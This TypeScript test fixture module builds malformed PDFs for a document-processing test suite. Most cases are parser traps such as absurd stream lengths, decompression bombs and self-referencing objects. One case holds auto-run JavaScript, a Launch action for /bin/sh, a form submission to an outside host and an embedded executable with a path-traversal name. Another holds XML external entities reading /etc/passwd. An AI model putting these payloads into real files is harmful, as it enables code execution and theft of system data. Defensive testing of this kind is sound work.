import { noted, paperLines, published, refused } from './hostile-file.ts';
import { broken, changed, type PdfCase } from './pdf-case.ts';
import { drawnLines, packed, paperObjects, paperPage, pdf, stream } from './pdf-objects.ts';

const seven =
  '<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources <</Font <</F1 5 0 R>>>>>>';

/** What is wrong with lengths, packing, fonts, locks and what would act. */
export const contentCases: Readonly<Record<string, PdfCase>> = {
  'length-of-four-gigabytes': {
    what: 'its content claims four gigabytes',
    make: changed((name) => ({ 4: stream(drawnLines(paperLines(name)), '/Length 4294967295') })),
    ending: published,
  },
  'length-below-nothing': {
    what: 'its content claims a negative length',
    make: changed((name) => ({ 4: stream(drawnLines(paperLines(name)), '/Length -5') })),
    ending: published,
  },
  'length-is-itself': {
    what: 'the length of its content is the content',
    make: changed((name) => ({ 4: stream(drawnLines(paperLines(name)), '/Length 4 0 R') })),
    ending: published,
  },
  'packed-content-damaged': {
    what: 'packed content with a damaged middle, behind which nothing can be told',
    make: (name) => {
      const file = pdf(
        paperObjects(name, {
          4: packed(
            drawnLines([
              ...paperLines(name),
              ...Array.from({ length: 10 }, (_, at) => `Line ${at * at * 7919} of the middle`),
            ]),
          ),
        }),
      );
      const middle = file.indexOf('stream\n') + 60;
      return `${file.slice(0, middle)}${'\xff'.repeat(20)}${file.slice(middle + 20)}`;
    },
    ending: refused('pdf-empty'),
  },
  'predictor-of-a-thousand-million-columns': {
    what: 'packing that claims lines of a thousand million columns',
    make: changed((name) => ({
      3: String(paperObjects(name)[3]).replace('4 0 R', '[4 0 R 6 0 R]'),
      6: packed('x', 1, '/DecodeParms <</Predictor 15 /Columns 1000000000 /Colors 32 /BitsPerComponent 16>>'),
    })),
    ending: published,
  },
  'objects-in-themselves': {
    what: 'a stream of objects that lies in itself',
    make: changed({
      1: '<</Type /Catalog /Pages 2 0 R /Names 6 0 R>>',
      6: stream('6 0 <<>>', '/Type /ObjStm /N 1 /First 4 /Extends 6 0 R'),
    }),
    ending: published,
  },
  'objects-a-thousand-million': {
    what: 'a stream of objects that claims a thousand million',
    make: changed({
      1: '<</Type /Catalog /Pages 2 0 R /Names 6 0 R>>',
      6: stream('7 0 <<>>', '/Type /ObjStm /N 1000000000 /First 999999999'),
    }),
    ending: published,
  },
  'letters-without-end': {
    what: 'a table of letters that claims four thousand million',
    make: changed({
      5: '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /ToUnicode 6 0 R>>',
      6: stream(
        '/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange 2 beginbfrange <00000000> <ffffffff> <0041> <80> <fe> <0041> endbfrange endcmap',
      ),
    }),
    ending: published,
  },
  'table-of-letters-uses-itself': {
    what: 'a table of letters that is built upon itself',
    make: changed({
      5: '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /ToUnicode 6 0 R>>',
      6: stream(
        'begincmap 1 begincodespacerange <00> <ff> endcodespacerange endcmap',
        '/Type /CMap /CMapName /Own /UseCMap 6 0 R',
      ),
    }),
    ending: published,
  },
  'font-file-is-noise': {
    what: 'a font whose file is noise',
    make: changed({
      5: '<</Type /Font /Subtype /TrueType /BaseFont /Noise /FirstChar 32 /LastChar 126 /Widths 7 0 R /Encoding /WinAnsiEncoding /FontDescriptor 6 0 R>>',
      6: '<</Type /FontDescriptor /FontName /Noise /Flags 32 /FontFile2 8 0 R /Ascent 9e9 /Descent -9e9 /ItalicAngle 0 /CapHeight 0 /StemV 0 /FontBBox [0 0 0 0]>>',
      7: `[${'500 '.repeat(95)}]`,
      8: stream('\x00\x01\x00\x00\xff\xff\x00\x00\x00\x00\x00\x00glyf'.repeat(300)),
    }),
    ending: published,
  },
  locked: {
    what: 'asks for a password that nobody knows',
    make: changed(
      {},
      {
        trailer: `/Encrypt <</Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}>>> /ID [<00> <00>]`,
      },
    ),
    ending: refused('pdf-encrypted'),
  },
  'locked-in-an-unknown-way': {
    what: 'locked by a way that nobody knows',
    make: changed(
      {},
      {
        trailer:
          '/Encrypt <</Filter /Standard /V 99 /R 99 /Length 99999 /P 0 /O (x) /U (y)>> /ID [<00> <00>]',
      },
    ),
    ending: broken,
  },
  'locked-by-itself': {
    what: 'what locks it is the catalogue',
    make: changed({}, { trailer: '/Encrypt 1 0 R /ID [<00> <00>]' }),
    ending: broken,
  },
  'acts-when-opened': {
    what: 'would run scripts, start programs, send forms and open files when it is opened',
    make: changed((name) => ({
      ...paperPage(name, {
        page: '/AA <</O <</S /JavaScript /JS (app.alert\\(1\\))>>>> /Annots [<</Type /Annot /Subtype /Link /Rect [0 0 99 99] /A <</S /Launch /F (/bin/sh)>>>> <</Type /Annot /Subtype /Link /Rect [0 0 99 99] /A <</S /SubmitForm /F (https://elsewhere.example/)>>>>]',
      }),
      1: '<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS 6 0 R>> /Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (app.alert\\(1\\))>>]>> /EmbeddedFiles <</Names [(a.exe) <</Type /Filespec /F (../../a.exe) /EF <</F 7 0 R>>>>]>>>> /URI <</Base (javascript:)>>>>',
      6: stream('app.alert(1); this.submitForm("https://elsewhere.example/")'),
      7: stream('MZ', '/Type /EmbeddedFile'),
    })),
    ending: published,
  },
  'form-of-adobe': {
    what: 'a form in XML that asks for a file of the computer',
    make: changed({
      1: '<</Type /Catalog /Pages 2 0 R /AcroForm <</XFA 6 0 R /Fields []>> /Metadata 7 0 R>>',
      6: stream(
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&f;</template></xdp:xdp>',
      ),
      7: stream(
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&f;</x:xmpmeta>',
        '/Type /Metadata /Subtype /XML',
      ),
    }),
    ending: published,
  },
  'names-in-a-ring': {
    what: 'a tree of names whose branches hold each other',
    make: changed({
      1: '<</Type /Catalog /Pages 2 0 R /Names <</Dests 6 0 R>> /PageLabels 6 0 R>>',
      6: '<</Kids [7 0 R] /Limits [(a) (z)]>>',
      7: '<</Kids [6 0 R] /Limits [(a) (z)]>>',
    }),
    ending: published,
  },
  'function-that-calculates-for-ever': {
    what: 'colours worked out by a function of a million steps',
    make: changed((name) => ({
      ...paperPage(name, {
        resources: '/ColorSpace <</S [/Separation /Spot /DeviceGray 6 0 R]>>',
        draws: '/S cs 0.5 scn 0 0 9 9 re f',
      }),
      6: stream(`{${'dup mul '.repeat(100_000)}}`, '/FunctionType 4 /Domain [0 1] /Range [0 1]'),
    })),
    ending: published,
  },
  'layers-of-layers': {
    what: 'a layer shown when it is itself shown',
    make: changed((name) => ({
      ...paperPage(name, {
        resources: '/Properties <</L 6 0 R>>',
        draws: '/OC /L BDC BT /F1 9 Tf 1 0 0 1 60 200 Tm (in the layer) Tj ET EMC',
      }),
      1: '<</Type /Catalog /Pages 2 0 R /OCProperties <</OCGs [6 0 R] /D <</ON [6 0 R] /Order [6 0 R]>>>>>>',
      6: '<</Type /OCMD /OCGs [6 0 R] /VE [/And 6 0 R [/Not 6 0 R]]>>',
    })),
    ending: published,
  },
  'second-page-broken': {
    what: 'a good page and one that is a number',
    make: changed((name) => ({
      2: '<</Type /Pages /Kids [3 0 R 6 0 R] /Count 2>>',
      6: '42',
      7: seven,
      ...paperPage(name, {}),
    })),
    ending: noted('pdf-page-broken'),
  },
};
